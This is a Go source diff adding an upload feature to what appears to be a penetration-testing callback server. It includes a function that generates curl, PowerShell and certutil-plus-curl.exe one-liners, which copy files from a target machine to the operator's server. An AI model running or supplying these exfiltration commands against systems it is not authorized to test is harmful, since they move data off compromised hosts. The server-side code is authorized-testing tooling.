@@ -0,0 +1,285 @@
+package core
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/subtle"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"io"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+)
+
+// UploadsDirName is the directory under the file server root receiving
+// uploads, one subdirectory per source IP. It is never served for download.
+const UploadsDirName = "uploads"
+
+const defaultFileUploadMaxMB = 100
+
+// UploadDecodeCertutil marks an upload body as certutil -encode output, which
+// is decoded before it is saved.
+const UploadDecodeCertutil = "certutil"
+
+var (
+	// ErrUploadTooLarge is returned when an upload exceeds FileUploadMaxMB.
+	ErrUploadTooLarge = errors.New("upload exceeds the size limit")
+	// ErrInvalidUpload is returned for upload bodies that can't be decoded.
+	ErrInvalidUpload = errors.New("invalid upload")
+)
+
+// UploadedFile describes a file received by the file server.
+type UploadedFile struct {
+	Name string `json:"name"`
+	// Path is relative to the file server directory.
+	Path       string    `json:"path"`
+	Source     string    `json:"source"`
+	Size       int64     `json:"size"`
+	SHA256     string    `json:"sha256"`
+	UploadedAt time.Time `json:"uploaded_at"`
+}
+
+// UploadCommand is an upload one-liner for a target.
+type UploadCommand struct {
+	Tool    string `json:"tool"`
+	OS      string `json:"os"`
+	Command string `json:"command"`
+}
+
+// EnsureUploadToken generates and saves an upload token when uploads are
+// enabled without one.
+func EnsureUploadToken(cfg Config) (Config, error) {
+	if !cfg.FileUpload || cfg.FileUploadToken != "" {
+		return cfg, nil
+	}
+	b := make([]byte, 16)
+	if _, err := rand.Read(b); err != nil {
+		return cfg, err
+	}
+	cfg.FileUploadToken = hex.EncodeToString(b)
+	return cfg, SaveConfig(cfg)
+}
+
+// CheckUploadToken reports whether token matches the configured upload token.
+func CheckUploadToken(cfg Config, token string) bool {
+	if cfg.FileUploadToken == "" || token == "" {
+		return false
+	}
+	return subtle.ConstantTimeCompare([]byte(token), []byte(cfg.FileUploadToken)) == 1
+}
+
+// uploadBaseName returns the last element of a path from either a Unix or a
+// Windows target.
+func uploadBaseName(name string) string {
+	name = strings.TrimSpace(name)
+	if i := strings.LastIndexAny(name, `/\`); i >= 0 {
+		name = name[i+1:]
+	}
+	name = strings.Map(func(r rune) rune {
+		if r < 0x20 || r == 0x7f {
+			return -1
+		}
+		return r
+	}, name)
+	if name == "" || name == "." || name == ".." {
+		return ""
+	}
+	return name
+}
+
+// SaveUpload stores an upload from source (the client IP) under
+// FileDirectory/uploads/<source>/. Existing files are never overwritten; a
+// numeric suffix is added instead. With decode set to UploadDecodeCertutil
+// the body is base64 with certutil's BEGIN/END lines, decoded as it is read.
+func SaveUpload(cfg Config, source, name string, body io.Reader, decode string) (UploadedFile, error) {
+	cfg = SanitizeConfig(cfg)
+	if cfg.FileDirectory == "" {
+		return UploadedFile{}, errors.New("file server directory not configured")
+	}
+	name = uploadBaseName(name)
+	if name == "" {
+		name = "upload-" + time.Now().Format("20060102-150405")
+	}
+	source = sanitizeHost(source)
+	if source == "" || source == "." || source == ".." {
+		source = "unknown"
+	}
+
+	limit := int64(cfg.FileUploadMaxMB) << 20
+	if decode == UploadDecodeCertutil {
+		body = base64.NewDecoder(base64.StdEncoding, &certutilReader{
+			sc: bufio.NewScanner(&sizeLimitReader{r: body, n: certutilEncodedLimit(limit)}),
+		})
+	} else if decode != "" {
+		return UploadedFile{}, fmt.Errorf("%w: unknown decode %q", ErrInvalidUpload, decode)
+	}
+
+	dir := filepath.Join(cfg.FileDirectory, UploadsDirName, source)
+	if err := os.MkdirAll(dir, 0o700); err != nil {
+		return UploadedFile{}, err
+	}
+	tmp, err := os.CreateTemp(dir, ".upload-*")
+	if err != nil {
+		return UploadedFile{}, err
+	}
+	defer os.Remove(tmp.Name())
+
+	h := sha256.New()
+	n, err := io.Copy(io.MultiWriter(tmp, h), io.LimitReader(body, limit+1))
+	if cerr := tmp.Close(); err == nil {
+		err = cerr
+	}
+	var corrupt base64.CorruptInputError
+	if errors.As(err, &corrupt) || (decode != "" && errors.Is(err, io.ErrUnexpectedEOF)) {
+		err = fmt.Errorf("%w: bad certutil encoding: %v", ErrInvalidUpload, err)
+	}
+	if err != nil {
+		return UploadedFile{}, err
+	}
+	if n > limit {
+		return UploadedFile{}, ErrUploadTooLarge
+	}
+
+	// Claiming the name with O_EXCL keeps concurrent uploads of the same
+	// name from replacing each other.
+	final := filepath.Join(dir, name)
+	for i := 1; ; i++ {
+		f, err := os.OpenFile(final, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
+		if err == nil {
+			f.Close()
+			break
+		}
+		if !os.IsExist(err) {
+			return UploadedFile{}, err
+		}
+		final = filepath.Join(dir, fmt.Sprintf("%s.%d", name, i))
+	}
+	if err := os.Rename(tmp.Name(), final); err != nil {
+		os.Remove(final)
+		return UploadedFile{}, err
+	}
+
+	rel, _ := filepath.Rel(cfg.FileDirectory, final)
+	return UploadedFile{
+		Name:       filepath.Base(final),
+		Path:       filepath.ToSlash(rel),
+		Source:     source,
+		Size:       n,
+		SHA256:     hex.EncodeToString(h.Sum(nil)),
+		UploadedAt: time.Now(),
+	}, nil
+}
+
+// sizeLimitReader fails with ErrUploadTooLarge once more than n bytes are
+// read, rather than ending the data early like io.LimitReader.
+// certutilEncodedLimit returns the size of certutil -encode output for limit
+// bytes: base64 is a third larger than the data, in 64-character lines ending
+// in CRLF, plus the BEGIN/END lines and some slack.
+func certutilEncodedLimit(limit int64) int64 {
+	b64 := (limit + 2) / 3 * 4
+	return b64 + (b64/64+1)*2 + 4096
+}
+
+type sizeLimitReader struct {
+	r io.Reader
+	n int64
+}
+
+func (l *sizeLimitReader) Read(p []byte) (int, error) {
+	if int64(len(p)) > l.n+1 {
+		p = p[:l.n+1]
+	}
+	n, err := l.r.Read(p)
+	l.n -= int64(n)
+	if l.n < 0 {
+		return 0, ErrUploadTooLarge
+	}
+	return n, err
+}
+
+// certutilReader yields the base64 text of certutil -encode output, dropping
+// the -----BEGIN/END CERTIFICATE----- lines. The END line is required, so a
+// truncated upload is an error rather than a short file.
+type certutilReader struct {
+	sc    *bufio.Scanner
+	line  []byte
+	ended bool
+}
+
+func (c *certutilReader) Read(p []byte) (int, error) {
+	for len(c.line) == 0 {
+		if c.ended {
+			return 0, io.EOF
+		}
+		if !c.sc.Scan() {
+			if err := c.sc.Err(); err != nil {
+				return 0, err
+			}
+			return 0, fmt.Errorf("%w: certutil data has no END line (truncated?)", ErrInvalidUpload)
+		}
+		line := bytes.TrimSpace(c.sc.Bytes())
+		if bytes.HasPrefix(line, []byte("-----END")) {
+			c.ended = true
+		} else if !bytes.HasPrefix(line, []byte("-----")) {
+			c.line = line
+		}
+	}
+	n := copy(p, c.line)
+	c.line = c.line[n:]
+	return n, nil
+}
+
+// FileUploadCommands returns one-liners uploading the file at targetPath (a
+// path on the target) to the file server: curl -T, PowerShell
+// Invoke-RestMethod, and certutil -encode plus a multipart curl.exe POST for
+// Windows hosts where binary uploads get mangled.
+func FileUploadCommands(cfg Config, targetPath string) ([]UploadCommand, error) {
+	cfg = SanitizeConfig(cfg)
+	if !cfg.FileUpload {
+		return nil, errors.New("uploads are disabled (enable file_upload)")
+	}
+	if cfg.FileUploadToken == "" {
+		return nil, errors.New("no upload token configured")
+	}
+	targetPath = strings.TrimSpace(targetPath)
+	name := uploadBaseName(targetPath)
+	if name == "" {
+		return nil, errors.New("invalid filename")
+	}
+	cfg, err := ResolveCallbackConfig(cfg)
+	if err != nil {
+		return nil, err
+	}
+
+	base := FileServerURL(cfg) + "/upload/"
+	target := base + url.PathEscape(name)
+	auth := "Authorization: Bearer " + cfg.FileUploadToken
+	encoded := `%TEMP%\` + name + ".b64"
+
+	return []UploadCommand{
+		{
+			Tool:    "curl",
+			OS:      "linux",
+			Command: fmt.Sprintf("curl %s-T %s -H %s %s", curlTLSFlag(cfg), shellQuote(targetPath), shellQuote(auth), shellQuote(target)),
+		},
+		{
+			Tool: "powershell",
+			OS:   "windows",
+			Command: fmt.Sprintf(`powershell -Command "%sInvoke-RestMethod -Uri %s -Method Put -InFile %s -Headers @{Authorization=%s}"`,
+				psTLSPrefix(cfg), psQuote(target), psQuote(targetPath), psQuote("Bearer "+cfg.FileUploadToken)),
+		},
+		{
+			Tool: "certutil",
+			OS:   "windows",
+			Command: fmt.Sprintf(`certutil -encode "%s" "%s" && curl.exe %s-F "file=@%s;filename=%s" -H "%s" "%s?decode=%s" && del "%s"`,
+				targetPath, encoded, curlTLSFlag(cfg), encoded, name, auth, base, UploadDecodeCertutil, encoded),
+		},
+	}, nil
+}